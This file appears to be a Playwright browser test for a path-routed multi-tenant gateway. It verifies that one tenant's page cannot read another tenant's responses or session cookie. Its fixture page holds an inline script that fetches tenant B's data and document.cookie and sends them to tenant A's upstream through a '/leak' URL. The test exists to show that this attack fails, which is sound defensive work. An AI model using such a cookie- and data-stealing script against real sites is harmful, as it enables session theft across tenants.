import type { Browser } from 'playwright-core';
import { GatewayHarness } from '../support/gateway-harness.js';
import { RecordingUpstream } from '../support/recording-upstream.js';
import { createTestDatabase, type TestDatabase } from '../support/test-database.js';
import { TenantSeed } from '../support/tenant-seed.js';
import { launchChromium, openPage } from './support/browser.js';

/**
 * Tenant B's page: sets a session cookie for the whole origin, as an upstream that believes
 * it owns the origin would. Tenant A's page: a script that reads B's API as same-origin and
 * the origin's cookies, and reports what it got to A's own upstream.
 */
const B_PAGE = '<!doctype html><title>B</title><p>tenant B</p>';
const A_PAGE = `<!doctype html><title>A</title><p>tenant A</p><script>
  fetch('/t/b/data').then((r) => r.text()).catch((e) => 'failed: ' + e)
    .then((body) => fetch('/t/a/leak?body=' + encodeURIComponent(body) + '&cookie=' + encodeURIComponent(document.cookie)));
</script>`;

/** Issue 19, item 3, in Chromium: path-routed tenants share the gateway's origin, and nothing else. */
describe('path-routed tenants in a browser', () => {
  let db: TestDatabase;
  let seed: TenantSeed;
  let upstreamA: RecordingUpstream;
  let upstreamB: RecordingUpstream;
  let gateway: GatewayHarness;
  let gatewayUrl: string;
  let browser: Browser;

  beforeAll(async () => {
    db = await createTestDatabase();
    seed = new TenantSeed(db.url);
    upstreamA = await RecordingUpstream.start((request, response) => {
      if (!request.url!.startsWith('/page')) return false;
      response.writeHead(200, { 'content-type': 'text/html' }).end(A_PAGE);
      return true;
    });
    upstreamB = await RecordingUpstream.start((request, response) => {
      if (request.url === '/page') {
        response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'sid=b-secret; Path=/; Domain=127.0.0.1; HttpOnly' }).end(B_PAGE);
        return true;
      }
      if (request.url === '/data') {
        response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ secret: 'b-data' }));
        return true;
      }
      return false;
    });
    await seed.tenant('a', { upstreamUrl: upstreamA.origin });
    await seed.tenant('b', { upstreamUrl: upstreamB.origin });
    [gateway, browser] = await Promise.all([GatewayHarness.start(db.url, { UPSTREAM_ALLOWED_HOSTS: '127.0.0.1' }), launchChromium()]);
    await gateway.app.listen({ port: 0, host: '127.0.0.1' });
    gatewayUrl = await gateway.app.getUrl();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await gateway?.close();
    await upstreamA?.close();
    await upstreamB?.close();
    await seed?.close();
    await db?.drop();
  });

  it("keeps tenant A's page from reading B's responses and B's cookie from reaching A's upstream", async () => {
    const { context, page } = await openPage(browser);
    try {
      await page.goto(`${gatewayUrl}/t/b/page`);
      const cookies = await context.cookies();
      // B's own cookie is kept, confined to B's path.
      expect(cookies.map(({ name, path, value }) => ({ name, path, value }))).toEqual([{ name: 't.b.sid', path: '/t/b/', value: 'b-secret' }]);
      await page.goto(`${gatewayUrl}/t/b/other`);

      await page.goto(`${gatewayUrl}/t/a/page`);
      await page.waitForLoadState('networkidle');

      expect(await page.title()).toBe('A');
      expect(upstreamA.received.map((request) => request.url)).toContain('/page');
      // A's page ran no script with the gateway's origin: nothing of B's was read or reported.
      const leaks = upstreamA.received.filter((request) => request.url.startsWith('/leak'));
      expect(leaks.filter((request) => /b-data|b-secret/.test(decodeURIComponent(request.url)))).toEqual([]);
      // No request to A's upstream carried B's cookie; B's upstream got it back under its own name.
      expect(upstreamA.received.filter((request) => /b-secret/.test(request.headers.cookie ?? ''))).toEqual([]);
      expect(upstreamB.received.find((request) => request.url === '/other')?.headers.cookie).toBe('sid=b-secret');
    } finally {
      await context.close();
    }
  });
});
